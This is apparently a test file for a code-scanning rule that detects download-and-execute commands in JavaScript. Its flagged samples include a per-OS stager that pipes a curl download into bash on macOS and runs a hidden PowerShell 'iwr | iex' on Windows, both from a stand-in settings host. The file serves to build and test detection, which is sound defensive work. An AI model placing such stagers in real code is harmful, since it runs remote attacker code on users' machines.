import { ruleTest } from '../../testing/rule-tester.js';
import rule from './curl-pipe-shell-in-code.js';

ruleTest(rule, {
  clean: [
    {
      name: 'curl to a file, then checksum (no pipe)',
      file: 'scripts/fetch.js',
      code: `const { execSync } = require('child_process');\nexecSync('curl -fsSL -o bin.tgz https://example.org/bin.tgz && sha256sum bin.tgz');\n`,
    },
    {
      name: 'grep pipe in a shell command',
      file: 'scripts/ver.js',
      code: `require('child_process').execSync('git log --oneline | head -5');\n`,
    },
  ],
  flagged: [
    {
      name: 'install hint printed by a CLI (low)',
      file: 'bin/cli.js',
      code: `console.log('Install bun first: curl -fsSL https://bun.sh/install | bash');\n`,
      findings: [{ line: 1, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'per-OS stage piped into bash',
      file: 'server/utils/os.js',
      code: `const { exec } = require('child_process');
const u = 'https://vscode-settings.example.net/settings/mac?flag=8';
if (process.platform === 'darwin') exec("curl -s '" + u + "' | bash");
else exec('powershell -c "iwr https://vscode-settings.example.net/settings/win?flag=8 | iex"', { windowsHide: true });
`,
      findings: [
        { line: 3, severity: 'high', confidence: 'high', decoded: "curl -s 'https://vscode-settings.example.net/settings/mac?flag=8' | bash" },
        { line: 4, severity: 'high', confidence: 'high' },
      ],
    },
  ],
});
